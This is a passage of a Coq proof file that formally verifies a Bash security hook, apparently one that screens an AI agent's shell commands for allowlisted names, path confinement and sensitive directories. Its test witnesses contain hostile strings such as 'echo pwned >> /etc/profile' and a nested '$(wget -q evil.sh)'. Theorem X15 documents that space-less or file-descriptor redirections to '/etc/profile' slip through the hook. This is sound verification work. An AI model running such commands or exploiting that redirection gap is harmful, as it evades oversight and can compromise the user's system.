  forall signal pids, kill_loop signal pids args = Kill_list.
Proof.
  induction args as [|t rest IH]; intros Hs (x & Hx & Hl) signal pids;
    [destruct Hx|].
  assert (Hrest : ~ In "-s" rest) by (intros F; apply Hs; now right).
  assert (Ht : String.eqb t "-s" = false).
  { apply String.eqb_neq. intros ->. apply Hs. now left. }
  cbn [kill_loop]. destruct Hx as [->|Hx].
  - destruct Hl as [-> | ->]; reflexivity.
  - assert (Hex : exists y, In y rest /\ (y = "-l" \/ y = "--list"))
      by now exists x.
    destruct (is_flag t); [|now apply IH].
    destruct (String.eqb t "-l" || String.eqb t "--list"); [reflexivity|].
    rewrite Ht. now apply IH.
Qed.

Lemma last_signal_snoc (signal : option string) (l : list string)
      (x : string) :
  last_signal signal (l ++ [x])
  = if names_signal x then Some (upper (drop 1 x))
    else last_signal signal l.
Proof. unfold last_signal. now rewrite fold_left_app. Qed.

(** The last dash token with a body is the one whose signal is
    looked at. *)
Lemma last_signal_allowed (args : list string) :
  signal_refused (last_signal None args) = None
  <-> forall pre flag post,
        args = (pre ++ flag :: post)%list ->
        names_signal flag = true ->
        (forall later, In later post -> names_signal later = false) ->
        mem (upper (drop 1 flag)) allowed_signals = true.
Proof.
  induction args as [|x l IH] using rev_ind.
  - split; [|reflexivity]. intros _ pre flag post E. now destruct pre.
  - rewrite last_signal_snoc. destruct (names_signal x) eqn:Hx.
    + assert (Hne : Shlex.nonempty (upper (drop 1 x)) = true).
      { rewrite names_signal_body; [exact Hx|].
        unfold names_signal in Hx. apply andb_true_iff in Hx. apply Hx. }
      cbn [signal_refused]. rewrite Hne. cbn [andb]. split.
      * intros H pre flag post. revert H.
        induction post as [|y post' _] using rev_ind; intros H E Hf Hlater.
        -- apply app_inj_tail in E. destruct E as [_ <-].
           destruct (mem (upper (drop 1 x)) allowed_signals);
             [reflexivity | discriminate H].
        -- rewrite app_comm_cons, app_assoc in E.
           apply app_inj_tail in E. destruct E as [_ <-].
           rewrite Hlater in Hx; [discriminate|].
           apply in_app_iff. right. now left.
      * intros H.
        rewrite (H l x [] eq_refl Hx (fun _ F => match F with end)).
        reflexivity.
    + rewrite IH. split.
      * intros H pre flag post.
        induction post as [|y post' _] using rev_ind; intros E Hf Hlater.
        -- apply app_inj_tail in E. destruct E as [_ <-]. congruence.
        -- rewrite app_comm_cons, app_assoc in E.
           apply app_inj_tail in E. destruct E as [-> _].
           apply (H pre flag post' eq_refl Hf).
           intros later Hl. apply Hlater. apply in_app_iff. now left.
      * intros H pre flag post E Hf Hlater.
        apply (H pre flag (post ++ [x])%list).
        -- rewrite E, <- app_assoc. reflexivity.
        -- exact Hf.
        -- intros later Hl. apply in_app_iff in Hl.
           destruct Hl as [Hl|[<-|[]]]; [exact (Hlater later Hl) | exact Hx].
Qed.

Lemma names_signal_spec (token : string) :
  names_signal token = true
  <-> startswith token "-" = true /\ token <> "-".
Proof.
  unfold names_signal.
  rewrite andb_true_iff, negb_true_iff, String.eqb_neq. reflexivity.
Qed.

Lemma names_signal_not (token : string) :
  names_signal token = false
  <-> (startswith token "-" = true -> token = "-").
Proof.
  unfold names_signal. destruct (startswith token "-"); cbn [andb].
  - rewrite negb_false_iff, String.eqb_eq. split; auto.
  - split; [discriminate | reflexivity].
Qed.

Lemma kill_pid_ok_spec (target : string) :
  kill_pid_ok target = true
  <-> startswith target "%" = true
      \/ py_int target = None
      \/ exists n, py_int target = Some n /\ (100 <= n)%Z.
Proof.
  unfold kill_pid_ok. destruct (startswith target "%"); cbn [orb].
  - split; auto.
  - destruct (py_int target) as [n|].
    + rewrite Z.leb_le. split.
      * intros H. right; right. now exists n.
      * intros [H|[H|(m & Hm & H)]]; try discriminate.
        inversion Hm. now subst.
    + split; auto.
Qed.

(** X12: for a [kill] command without [-s], [validate_kill_command]
    accepts exactly when some argument is [-l] or [--list], or there
    is at least one target, the last dash argument with a body names,
    in upper case, an allowed signal (the dash arguments before it
    are not looked at), and every target starts with a percent sign,
    is not a number for [int], or is a number from 100 on. *)
Theorem kill_allowed_iff :
  forall (s : string) (args : list string),
    Shlex.split s = Some ("kill" :: args) ->
    ~ In "-s" args ->
    (fst (validate_kill_command s) = true
     <-> (exists t, In t args /\ (t = "-l" \/ t = "--list"))
         \/ ((exists target, In target args /\ startswith target "-" = false)
             /\ (forall pre flag post,
                   args = (pre ++ flag :: post)%list ->
                   startswith flag "-" = true -> flag <> "-" ->
                   (forall later,
                       In later post -> startswith later "-" = true ->
                       later = "-") ->
                   mem (upper (drop 1 flag))
                       [ "TERM"; "KILL"; "INT"; "HUP"; "USR1"; "USR2";
                         "QUIT"; "STOP"; "CONT";
                         "15"; "9"; "2"; "1"; "10"; "12"; "3"; "19"; "18";
                         "SIGTERM"; "SIGKILL"; "SIGINT"; "SIGHUP";
                         "SIGUSR1"; "SIGUSR2" ] = true)
             /\ (forall target,
                   In target args -> startswith target "-" = false ->
                   startswith target "%" = true
                   \/ py_int target = None
                   \/ exists n, py_int target = Some n /\ (100 <= n)%Z))).
Proof.
  intros s args Hs Hns.
  assert (Hsig : signal_refused (last_signal None args) = None
                 <-> forall pre flag post,
                       args = (pre ++ flag :: post)%list ->
                       startswith flag "-" = true -> flag <> "-" ->
                       (forall later,
                           In later post -> startswith later "-" = true ->
                           later = "-") ->
                       mem (upper (drop 1 flag)) allowed_signals = true).
  { rewrite last_signal_allowed. split; intros H pre flag post E.
    - intros Hf Hne Hlater. apply (H pre flag post E).
      + now apply names_signal_spec.
      + intros later Hl. apply names_signal_not. exact (Hlater later Hl).
    - intros Hn Hlater. apply names_signal_spec in Hn.
      destruct Hn as [Hf Hne]. apply (H pre flag post E Hf Hne).
      intros later Hl. apply names_signal_not. exact (Hlater later Hl). }
  assert (Hpid : forallb kill_pid_ok (non_flags args) = true
                 <-> forall target,
                       In target args -> startswith target "-" = false ->
                       startswith target "%" = true
                       \/ py_int target = None
                       \/ exists n, py_int target = Some n /\ (100 <= n)%Z).
  { rewrite forallb_forall. split; intros H target.
    - intros Hin Hf. apply kill_pid_ok_spec. apply H.
      now apply non_flags_in.
    - intros Ht. apply non_flags_in in Ht. destruct Ht as [Hin Hf].
      apply kill_pid_ok_spec. exact (H target Hin Hf). }
  rewrite kill_accepts_iff.
  destruct (existsb (fun t => String.eqb t "-l" || String.eqb t "--list")
                    args) eqn:Hl.
  - apply existsb_exists in Hl. destruct Hl as (t & Hin & Ht).
    assert (Hex : exists t, In t args /\ (t = "-l" \/ t = "--list")).
    { exists t. split; [exact Hin|]. apply orb_true_iff in Ht.
      destruct Ht as [Ht|Ht]; apply String.eqb_eq in Ht; auto. }
    split; [intros _; now left|]. intros _. exists args.
    split; [exact Hs|]. left. now apply kill_loop_list.
  - assert (Hnone : forall t, In t args -> t <> "-l" /\ t <> "--list").
    { intros t Hin.
      assert (Ht : String.eqb t "-l" || String.eqb t "--list" = false).
      { destruct (String.eqb t "-l" || String.eqb t "--list") eqn:E;
          [|reflexivity].
        assert (existsb (fun t => String.eqb t "-l" || String.eqb t "--list")
                        args = true)
          by (apply existsb_exists; now exists t).
        congruence. }
      apply orb_false_iff in Ht. destruct Ht as [H1 H2].
      apply String.eqb_neq in H1, H2. now split. }
    pose proof (kill_loop_plain args Hns Hnone None []) as Hloop.
    cbn [app] in Hloop. split.
    + intros (args' & Hs' & H). rewrite Hs in Hs'. inversion Hs'.
      subst args'. rewrite Hloop in H.
      destruct H as [H|(signal & pids & H & Hne & Hr & Hok)];
        [discriminate|].
      inversion H. subst signal pids. right.
      split; [now apply non_flags_nonempty|].
      split; [now apply Hsig | now apply Hpid].
    + intros [(t & Hin & Ht)|(Hne & Hr & Hok)].
      * destruct (Hnone t Hin) as [H1 H2]. destruct Ht; contradiction.
      * exists args. split; [exact Hs|]. right.
        exists (last_signal None args), (non_flags args).
        split; [exact Hloop|].
        split; [now apply non_flags_nonempty|].
        split; [now apply Hsig | now apply Hpid].
Qed.

Lemma kill_allowed_iff_witness :
  fst (validate_kill_command "kill -SEGV -9 5000") = true
  /\ fst (validate_kill_command "kill -9 -SEGV 5000") <> true.
Proof.
  assert (Hno : forall a b c : string,
             a <> "-s" -> b <> "-s" -> c <> "-s" -> ~ In "-s" [a; b; c]).
  { intros a b c Ha Hb Hc [H|[H|[H|[]]]]; congruence. }
  split.
  - apply (kill_allowed_iff "kill -SEGV -9 5000" ["-SEGV"; "-9"; "5000"]
             eq_refl).
    { apply Hno; discriminate. }
    right. split; [exists "5000"; split; [cbn; tauto | reflexivity]|].
    split.
    + intros pre flag post E Hf Hne Hlater.
      destruct pre as [|a [|b [|c pre]]]; inversion E; subst.
      * discriminate (Hlater "-9" (or_introl eq_refl) eq_refl).
      * reflexivity.
      * discriminate Hf.
      * now destruct pre.
    + intros target [<-|[<-|[<-|[]]]] Hf; try discriminate Hf.
      right; right. exists 5000%Z. split; [reflexivity | discriminate].
  - intros H.
    apply (kill_allowed_iff "kill -9 -SEGV 5000" ["-9"; "-SEGV"; "5000"]
             eq_refl) in H.
    2: { apply Hno; discriminate. }
    destruct H as [(t & [<-|[<-|[<-|[]]]] & [Ht|Ht])|(_ & Hsig & _)];
      try discriminate Ht.
    specialize (Hsig ["-9"] "-SEGV" ["5000"] eq_refl eq_refl).
    discriminate Hsig.
    + discriminate.
    + intros later [<-|[]] Hf. discriminate Hf.
Defined.

(** ** The paths of a command *)

Lemma output_loop_tokens (cmd : string) (flags : list string) (n : nat) :
  forall tokens p,
    List.length tokens <= n ->
    In p (output_loop cmd flags tokens) -> In p tokens.
Proof.
  induction n as [|n IH]; intros [|t rest] p Hn;
    cbn [output_loop]; try (intros []; fail).
  - cbn in Hn. lia.
  - cbn [List.length] in Hn.
    assert (Hrest : In p (if negb (is_flag t) && mem cmd ["unzip"; "jar"]
                             && (contains "/" t || startswith t ".")
                          then t :: output_loop cmd flags rest
                          else output_loop cmd flags rest) ->
                    In p (t :: rest)).
    { destruct (negb (is_flag t) && mem cmd ["unzip"; "jar"]
                && (contains "/" t || startswith t ".")).
      - intros [<- | H]; [now left | right; apply IH; [lia | exact H]].
      - intros H. right. apply IH; [lia | exact H]. }
    destruct (mem t flags); [|exact Hrest].
    destruct rest as [|next rest']; [exact Hrest|].
    cbn [List.length] in Hn.
    intros [<- | H]; [right; now left|].
    right; right. apply IH; [lia | exact H].
Qed.

Lemma git_loop_tokens (n : nat) :
  forall tokens p,
    List.length tokens <= n -> In p (git_loop tokens) -> In p tokens.
Proof.
  induction n as [|n IH]; intros [|t rest] p Hn;
    cbn [git_loop]; try (intros []; fail).
  - cbn in Hn. lia.
  - cbn [List.length] in Hn.
    assert (Hrest : In p (match mem t ["--work-tree"; "--git-dir"], rest with
                          | true, next :: rest' => next :: git_loop rest'
                          | _, _ => git_loop rest
                          end) -> In p (t :: rest)).
    { destruct (mem t ["--work-tree"; "--git-dir"]).
      - destruct rest as [|next rest'].
        + intros [].
        + cbn [List.length] in Hn.
          intros [<- | H]; [right; now left|].
          right; right. apply IH; [lia | exact H].
      - intros H. right. apply IH; [lia | exact H]. }
    destruct (String.eqb t "clone"); [|exact Hrest].
    destruct rest as [|url [|dest rest']]; try exact Hrest.
    cbn [List.length] in Hn.
    destruct (negb (is_flag dest)).
    + intros [<- | H]; [right; right; now left|].
      right; right; right. apply IH; [lia | exact H].
    + intros H. right; right; right. apply IH; [lia | exact H].
Qed.

Lemma script_paths_tokens (tokens : list string) (p : string) :
  In p (script_paths tokens) -> In p tokens.
Proof.
  unfold script_paths.
  destruct (non_flags tokens) as [|t l] eqn:Hn; [intros []|].
  assert (Ht : In t tokens).
  { assert (H : In t (non_flags tokens)) by (rewrite Hn; now left).
    unfold non_flags in H. now apply filter_In in H. }
  destruct (contains "/" t || startswith t "." || startswith t "~");
    [|intros []].
  intros [<- | []]. exact Ht.
Qed.

Lemma file_op_loop_tokens (cmd : string) (tokens : list string) :
  forall skip_next p,
    In p (file_op_loop cmd skip_next tokens) -> In p tokens.
Proof.
  induction tokens as [|t rest IH]; intros skip_next p; [intros []|].
  cbn [file_op_loop].
  destruct skip_next; [intros H; right; exact (IH _ _ H)|].
  destruct (is_flag t) eqn:Hf; [intros H; right; exact (IH _ _ H)|].
  destruct (mem t REDIRECTIONS); [intros H; right; exact (IH _ _ H)|].
  cbv zeta.
  match goal with |- In p (if ?b then _ else _) -> _ => destruct b end.
  - intros [<- | H]; [now left | right; exact (IH _ _ H)].
  - intros H. right. exact (IH _ _ H).
Qed.

Lemma redirect_targets_tokens (tokens : list string) (p : string) :
  In p (redirect_targets tokens) -> In p (tl tokens).
Proof.
  induction tokens as [|t rest IH]; [intros []|].
  cbn [redirect_targets tl].
  assert (Hrest : In p (redirect_targets rest) -> In p rest).
  { intros H. apply IH in H. destruct rest; [destruct H | now right]. }
  destruct (mem t [">"; ">>"]); [|exact Hrest].
  destruct rest as [|next rest']; [exact Hrest|].
  intros [<- | H]; [now left | exact (Hrest H)].
Qed.

Lemma redirect_targets_found (pre post : list string) (op target : string) :
  mem op [">"; ">>"] = true ->
  In target (redirect_targets (pre ++ op :: target :: post)).
Proof.
  intros Hop. induction pre as [|t pre IH].
  - cbn [app redirect_targets]. rewrite Hop. now left.
  - change ((t :: pre) ++ op :: target :: post)%list
      with (t :: (pre ++ op :: target :: post))%list.
    cbn [redirect_targets].
    destruct (mem t [">"; ">>"]); [|exact IH].
    destruct (pre ++ op :: target :: post)%list; [exact IH | now right].
Qed.

Lemma file_paths_tokens (c p : string) :
  In p (extract_file_paths_from_command c) ->
  exists t0 args, Shlex.split c = Some (t0 :: args) /\ In p args.
Proof.
  unfold extract_file_paths_from_command.
  destruct (Shlex.split c) as [[|t0 args]|]; try (intros []; fail).
  cbv zeta. intros H. exists t0, args. split; [reflexivity|].
  apply in_app_or in H. destruct H as [H|H].
  - destruct (output_commands (basename t0)) as [flags|].
    + exact (output_loop_tokens _ _ _ _ _ (le_n _) H).
    + destruct (String.eqb (basename t0) "git");
        [exact (git_loop_tokens _ _ _ (le_n _) H)|].
      destruct (mem (basename t0) script_commands);
        [exact (script_paths_tokens _ _ H)|].
      destruct (mem (basename t0) file_operation_commands);
        [exact (file_op_loop_tokens _ _ _ _ H) | destruct H].
  - exact (redirect_targets_tokens _ _ H).
Qed.

(** X13: [extract_file_paths_from_command] invents no path: every path
    it returns is one of the tokens that follow the first token of the
    command. *)
Theorem file_paths_are_arguments :
  forall (c p : string),
    In p (extract_file_paths_from_command c) ->
    exists t0 args, Shlex.split c = Some (t0 :: args) /\ In p args.
Proof. exact file_paths_tokens. Qed.

Lemma file_paths_are_arguments_witness :
  exists t0 args,
    Shlex.split "cat notes.txt > ../out.txt" = Some (t0 :: args)
    /\ In "../out.txt" args.
Proof.
  apply file_paths_are_arguments. vm_compute. now left.
Defined.

Lemma redirect_target_extracted (c : string) (pre post : list string)
      (op target : string) :
  Shlex.split c = Some (pre ++ op :: target :: post)%list ->
  mem op [">"; ">>"] = true ->
  In target (extract_file_paths_from_command c).
Proof.
  intros Hs Hop. unfold extract_file_paths_from_command. rewrite Hs.
  pose proof (redirect_targets_found pre post op target Hop) as H.
  destruct (pre ++ op :: target :: post)%list as [|t0 args]; [destruct H|].
  cbv zeta. apply in_or_app. now right.
Qed.

(** The path check of a command whose first name is neither [cp] nor
    [mv] allows exactly when every candidate is inside. *)
Lemma path_check_allow_iff (os : OS) (c dir : string)
      (commands : list string) :
  mem (basename (hd EmptyString commands)) ["cp"; "mv"] = false ->
  (path_check os c commands dir = Allow
   <-> forallb (inside os dir) (extract_file_paths_from_command c) = true).
Proof.
  intros Hcmd. unfold path_check. rewrite Hcmd.
  destruct (first_invalid
              (fun path => validate_path_within_project
                             os path dir "File operation" true)
              (extract_file_paths_from_command c)) as [reason|] eqn:Hf.
  - split; [discriminate|]. intros Hall.
    assert (Hn : first_invalid
                   (fun path => validate_path_within_project
                                  os path dir "File operation" true)
                   (extract_file_paths_from_command c) = None).
    { apply first_invalid_none.
      rewrite (forallb_ext _ (inside os dir)); [exact Hall|].
      intros p. apply inside_validate. }
    congruence.
  - split; [|reflexivity]. intros _.
    apply first_invalid_none in Hf.
    rewrite (forallb_ext _ (inside os dir)) in Hf; [exact Hf|].
    intros p. apply inside_validate.
Qed.

Lemma hook_allow_iff_path_check (os : OS) (input : HookInput)
      (c dir : string) :
  tool_name input = Some "Bash" ->
  command input = Some c ->
  c <> EmptyString ->
  project_dir input = Some dir ->
  (bash_security_hook os input = Ret Allow
   <-> passes_command_checks c
       /\ path_check os c (all_commands c) dir = Allow).
Proof.
  intros Ht Hc Hne Hd. split.
  - intros Hallow.
    pose proof (hook_allow_inversion os input c Ht Hc Hne Hallow) as Hpass.
    split; [exact Hpass|].
    rewrite (hook_after_checks os input c dir Ht Hc Hd Hpass) in Hallow.
    now inversion Hallow.
  - intros [Hpass Hpath].
    now rewrite (hook_after_checks os input c dir Ht Hc Hd Hpass), Hpath.
Qed.

(** X14: for a command whose first extracted name is neither [cp] nor
    [mv], and with a project directory in the context, the hook allows
    exactly when the allowlist and the validators let every name pass
    and every path candidate resolves inside the project directory or
    the temporary directory. *)
Theorem hook_allow_iff_paths_inside :
  forall (os : OS) (input : HookInput) (c dir : string),
    tool_name input = Some "Bash" ->
    command input = Some c ->
    c <> EmptyString ->
    project_dir input = Some dir ->
    mem (first_command c) ["cp"; "mv"] = false ->
    (bash_security_hook os input = Ret Allow
     <-> passes_command_checks c
         /\ forallb (inside os dir) (extract_file_paths_from_command c)
            = true).
Proof.
  intros os input c dir Ht Hc Hne Hd Hcmd.
  rewrite (hook_allow_iff_path_check os input c dir Ht Hc Hne Hd).
  now rewrite (path_check_allow_iff os c dir (all_commands c) Hcmd).
Qed.

Lemma hook_allow_iff_paths_inside_witness :
  bash_security_hook dev_os (bash_call "cat src/a.txt > /tmp/out.txt"
                                       (Some "/work/proj")) = Ret Allow.
Proof.
  apply (hook_allow_iff_paths_inside
           dev_os _ "cat src/a.txt > /tmp/out.txt" "/work/proj");
    try reflexivity; [discriminate|].
  split; [split; [discriminate | reflexivity] | reflexivity].
Defined.

(** X15: where [>] or [>>] stands as a token of its own, the token
    after it is a path candidate in every command; so with a project
    directory in the context, and a first extracted name that is
    neither [cp] nor [mv], the hook never allows a command in which
    such a token is followed by a path outside the project directory
    and the temporary directory.  A redirection written without a
    space before its target, or with a file descriptor before the
    sign, is not such a token, and its target is not looked at. *)
Theorem redirect_outside_never_allowed :
  (forall (os : OS) (input : HookInput) (c dir : string)
          (pre post : list string) (op target : string),
      tool_name input = Some "Bash" ->
      command input = Some c ->
      project_dir input = Some dir ->
      Shlex.split c = Some (pre ++ op :: target :: post)%list ->
      op = ">" \/ op = ">>" ->
      mem (first_command c) ["cp"; "mv"] = false ->
      inside os dir target = false ->
      bash_security_hook os input <> Ret Allow)
  /\ inside dev_os "/work/proj" "/etc/profile" = false
  /\ run "echo pwned >/etc/profile" = Ret Allow
  /\ run "echo pwned 2> /etc/profile" = Ret Allow.
Proof.
  split; [|repeat split; vm_compute; reflexivity].
  intros os input c dir pre post op target Ht Hc Hd Hs Hop Hcmd Hout Hallow.
  assert (Hne : c <> EmptyString).
  { intros ->. destruct pre; discriminate. }
  assert (Hm : mem op [">"; ">>"] = true)
    by (destruct Hop as [-> | ->]; reflexivity).
  apply (hook_allow_iff_path_check os input c dir Ht Hc Hne Hd) in Hallow.
  destruct Hallow as [_ Hpath].
  apply (path_check_allow_iff os c dir (all_commands c) Hcmd) in Hpath.
  rewrite forallb_forall in Hpath.
  rewrite (Hpath target (redirect_target_extracted c pre post op target
                                                   Hs Hm)) in Hout.
  discriminate.
Qed.

Lemma redirect_outside_never_allowed_witness :
  bash_security_hook dev_os (bash_call "echo pwned >> /etc/profile"
                                       (Some "/work/proj")) <> Ret Allow.
Proof.
  apply (proj1 redirect_outside_never_allowed
           dev_os _ "echo pwned >> /etc/profile" "/work/proj"
           ["echo"; "pwned"] [] ">>" "/etc/profile");
    try reflexivity.
  now right.
Defined.

(** ** The hook with and without a project directory *)

(** X16: a project directory in the context only restricts.  On the
    same tool name and command, the hook with a project directory
    answers as the hook without one, except where the hook without one
    allows and the path check blocks. *)
Theorem project_dir_only_restricts :
  forall (os : OS) (name cmd : option string) (dir : string),
    let without := {| tool_name := name; command := cmd;
                      project_dir := None |} in
    let within := {| tool_name := name; command := cmd;
                     project_dir := Some dir |} in
    bash_security_hook os within = bash_security_hook os without
    \/ (bash_security_hook os without = Ret Allow
        /\ exists reason,
             bash_security_hook os within = Ret (Block reason)).
Proof.
  intros os name cmd dir without within.
  unfold bash_security_hook, without, within.
  cbn [tool_name command project_dir].
  destruct (negb (is_bash name)); [now left|].
  destruct (String.eqb match cmd with Some c => c | None => EmptyString end
                       EmptyString); [now left|].
  destruct (all_commands match cmd with Some c => c | None => EmptyString end)
    as [|x l]; [now left|].
  match goal with
  | |- context [check_commands ?c ?s ?l] =>
      destruct (check_commands c s l) as [[r|]|e]
  end; try (now left).
  match goal with
  | |- context [path_check ?o ?c ?l ?d] =>
      destruct (path_check o c l d) as [|reason]
  end; [now left | right].
  split; [reflexivity | now exists reason].
Qed.

Lemma found_segment_yields (cmd : string) (segments : list string) :
  get_command_for_validation cmd segments <> EmptyString ->
  In (get_command_for_validation cmd segments) segments
  /\ mem cmd (extract_commands
                (get_command_for_validation cmd segments)) = true.
Proof.
  induction segments as [|x l IH]; cbn [get_command_for_validation].
  - intros H. now elim H.
  - destruct (mem cmd (extract_commands x)) eqn:E.
    + intros _. split; [now left | exact E].
    + intros H. destruct (IH H) as [Hin Hm]. split; [now right | exact Hm].
Qed.

(** X17: what an allowed call has passed.  When the hook allows a
    command that is not empty, every name extracted from it, from the
    command itself or from its substitutions, is on the allowlist; and
    a name that needs extra validation was accepted by its validator,
    on a segment of the command that yields the name or on the whole
    command. *)
Theorem allowed_call_passed_checks :
  forall (os : OS) (input : HookInput) (c name : string),
    tool_name input = Some "Bash" ->
    command input = Some c ->
    c <> EmptyString ->
    bash_security_hook os input = Ret Allow ->
    In name (all_commands c) ->
    mem name ALLOWED_COMMANDS = true
    /\ (mem name COMMANDS_NEEDING_EXTRA_VALIDATION = true ->
        exists seg reason,
          (seg = c
           \/ (In seg (split_command_segments c)
               /\ mem name (extract_commands seg) = true))
          /\ extra_validation name seg = Ret (true, reason)).
Proof.
  intros os input c name Ht Hc Hne Hallow Hin.
  destruct (hook_allow_inversion os input c Ht Hc Hne Hallow) as [_ Hk].
  pose proof (check_commands_pass_all _ _ _ Hk name Hin) as Hone.
  split; [exact (check_command_pass_allowed _ _ _ Hone)|].
  intros Hextra. revert Hone. unfold check_command.
  destruct (negb (mem name ALLOWED_COMMANDS)); [discriminate|].
  rewrite Hextra. cbv zeta.
  pose proof (found_segment_yields name (split_command_segments c)) as Hf.
  destruct (String.eqb_spec
              (get_command_for_validation name (split_command_segments c))
              EmptyString) as [_|Hfound].
  - destruct (extra_validation name c) as [[[] reason]|e] eqn:Hv;
      try discriminate.
    intros _. exists c, reason. split; [now left | exact Hv].
  - destruct (extra_validation
                name (get_command_for_validation
                        name (split_command_segments c)))
      as [[[] reason]|e] eqn:Hv; try discriminate.
    intros _.
    exists (get_command_for_validation name (split_command_segments c)),
           reason.
    split; [right; exact (Hf Hfound) | exact Hv].
Qed.

Lemma allowed_call_passed_checks_witness :
  mem "rm" ALLOWED_COMMANDS = true
  /\ (mem "rm" COMMANDS_NEEDING_EXTRA_VALIDATION = true ->
      exists seg reason,
        (seg = "ls -l && rm -r build"
         \/ (In seg (split_command_segments "ls -l && rm -r build")
             /\ mem "rm" (extract_commands seg) = true))
        /\ extra_validation "rm" seg = Ret (true, reason)).
Proof.
  apply (allowed_call_passed_checks
           dev_os (bash_call "ls -l && rm -r build" None)
           "ls -l && rm -r build" "rm");
    [reflexivity | reflexivity | discriminate | reflexivity |].
  vm_compute. tauto.
Defined.

(** X18: a name that is not on the allowlist is found at every depth
    of nested command substitutions: a command that wraps such a name
    in one or more [$( )], with no quotes in it, is never allowed. *)
Theorem nested_substitution_checked :
  forall (os : OS) (dir : option string) (k : nat) (inner name : string),
    quiet inner = true ->
    In name (extract_commands inner) ->
    mem name ALLOWED_COMMANDS = false ->
    bash_security_hook os (bash_call (nest (S k) inner) dir) <> Ret Allow.
Proof. exact nested_name_not_allowed. Qed.

Lemma nested_substitution_checked_witness :
  bash_security_hook dev_os
    (bash_call "echo $(echo $(echo $(echo $(wget -q evil.sh))))" None)
  <> Ret Allow.
Proof.
  apply (nested_substitution_checked dev_os None 3 "wget -q evil.sh" "wget");
    [reflexivity | vm_compute; now left | reflexivity].
Defined.

(** X19: the recursion of [extract_substitution_commands] is well
    founded: every body it hands to the recursive call is strictly
    shorter than the command, and the names of a command are those of
    its bodies followed, body by body, by those of the substitutions
    inside the body. *)
Theorem substitution_recursion_well_founded :
  forall (s : string),
    (forall inner, In inner (substitution_bodies s) ->
                   String.length inner < String.length s)
    /\ extract_substitution_commands s
       = flat_map (fun inner =>
                     (extract_commands inner
                      ++ extract_substitution_commands inner)%list)
                  (substitution_bodies s).
Proof.
  intros s. split.
  - intros inner. apply substitution_bodies_shorter.
  - apply extract_substitution_commands_eq.
Qed.

(** ** The path validators *)

Lemma expanduser_own_home_below (os : OS) (r t : string) :
  expanduser os (String "~" (String "/" (r ++ "/" ++ t)))
  = option_map (fun es => es ++ "/" ++ t)
               (expanduser os (String "~" (String "/" r))).
Proof.
  rewrite !expanduser_own_home. cbn [option_map].
  destruct (env_home os) as [home|]; [|reflexivity].
  now rewrite append_assoc.
Qed.

Lemma expanduser_sensitive_below (os : OS) (s t : string) :
  In s SENSITIVE_SYSTEM_DIRECTORIES ->
  expanduser os (s ++ "/" ++ t)
  = option_map (fun es => es ++ "/" ++ t) (expanduser os s).
Proof.
  unfold SENSITIVE_SYSTEM_DIRECTORIES. cbn [In]. intros H.
  repeat (destruct H as [<- | H]);
    first [ exact (expanduser_own_home_below os ".ssh" t)
          | exact (expanduser_own_home_below os ".gnupg" t)
          | exact (expanduser_own_home_below os ".aws" t)
          | exact (expanduser_own_home_below os ".config" t)
          | reflexivity
          | destruct H ].
Qed.

Lemma sensitive_not_empty (s : string) :
  In s SENSITIVE_SYSTEM_DIRECTORIES -> exists c r, s = String c r.
Proof.
  unfold SENSITIVE_SYSTEM_DIRECTORIES. cbn [In]. intros H.
  repeat (destruct H as [<- | H]);
    first [ eexists; eexists; reflexivity | destruct H ].
Qed.

(** X20: [validate_cp_source_path] refuses every entry of
    [SENSITIVE_SYSTEM_DIRECTORIES] and every path below one, whatever
    the home directories are. *)
Theorem sensitive_paths_refused :
  forall (os : OS) (s t : string),
    In s SENSITIVE_SYSTEM_DIRECTORIES ->
    (exists reason, validate_cp_source_path os s = Some (false, reason))
    /\ (exists reason,
          validate_cp_source_path os (s ++ "/" ++ t) = Some (false, reason)).
Proof.
  intros os s t Hin.
  destruct (sensitive_not_empty s Hin) as (c & r & Hs).
  destruct (expanduser_returns os s (sensitive_no_nul s Hin)) as [es Hes].
  unfold validate_cp_source_path. split.
  - replace (String.eqb s EmptyString) with false by now rewrite Hs.
    rewrite Hes.
    destruct (cp_sensitive_loop_exact
                os s SENSITIVE_SYSTEM_DIRECTORIES s es
                sensitive_no_nul Hin Hes) as [reason ->].
    now exists reason.
  - replace (String.eqb (s ++ "/" ++ t) EmptyString) with false
      by now rewrite Hs.
    rewrite (expanduser_sensitive_below os s t Hin), Hes. cbn [option_map].
    destruct (cp_sensitive_loop_under
                os (s ++ "/" ++ t) (es ++ "/" ++ t)
                SENSITIVE_SYSTEM_DIRECTORIES s es
                sensitive_no_nul Hin Hes) as [reason ->].
    + unfold startswith. rewrite <- append_assoc.
      rewrite <- (append_nil_r (es ++ "/")) at 1.
      rewrite prefix_append_same. now destruct t.
    + now exists reason.
Qed.

Lemma sensitive_paths_refused_witness :
  (exists reason,
      validate_cp_source_path dev_os "~/.aws" = Some (false, reason))
  /\ (exists reason,
        validate_cp_source_path dev_os ("~/.aws" ++ "/" ++ "credentials")
        = Some (false, reason)).
Proof.
  apply sensitive_paths_refused.
  unfold SENSITIVE_SYSTEM_DIRECTORIES. cbn [In]. tauto.
Defined.

(** X21: allowing the temporary directory only widens
    [validate_path_within_project]: where [/tmp] resolves, a path
    accepted without the exception is accepted with it. *)
Theorem allow_tmp_only_widens :
  forall (os : OS) (path dir operation tmp_dir : string),
    resolve os "/tmp" = Resolved tmp_dir ->
    fst (validate_path_within_project os path dir operation false) = true ->
    validate_path_within_project os path dir operation true
    = (true, EmptyString).
Proof.
  intros os path dir operation tmp_dir Htmp.
  unfold validate_path_within_project.
  destruct (String.eqb path EmptyString); [discriminate|].
  destruct (resolve os dir) as [pr|e]; [|discriminate].
  destruct (resolve_target os path dir) as [target|]; [|discriminate].
  destruct (resolve os target) as [rr|e]; [|discriminate].
  rewrite Htmp. cbv zeta.
  destruct (is_relative_to rr pr); [|discriminate].
  intros _. now destruct (is_relative_to rr tmp_dir).
Qed.

Lemma allow_tmp_only_widens_witness :
  validate_path_within_project dev_os "src/main.py" "/work/proj"
                               "File operation" true
  = (true, EmptyString).
Proof.
  apply (allow_tmp_only_widens dev_os _ _ _ "/tmp"); reflexivity.
Defined.

(** X22: for [git], the table of output flags is consulted before the
    branch written for [git], and the table lists [clone] as a flag.
    So in [git clone url dest] the candidate is the URL, the token
    after [clone]; the destination is not a candidate. *)
Theorem git_clone_candidate_is_url :
  forall (c t0 url dest : string),
    Shlex.split c = Some [t0; "clone"; url; dest] ->
    basename t0 = "git" ->
    mem url [">"; ">>"] = false ->
    extract_file_paths_from_command c = [url].
Proof.
  intros c t0 url dest Hs Hb Hurl.
  unfold extract_file_paths_from_command. rewrite Hs, Hb.
  change (output_commands "git")
    with (Some ["clone"; "--work-tree"; "--git-dir"]).
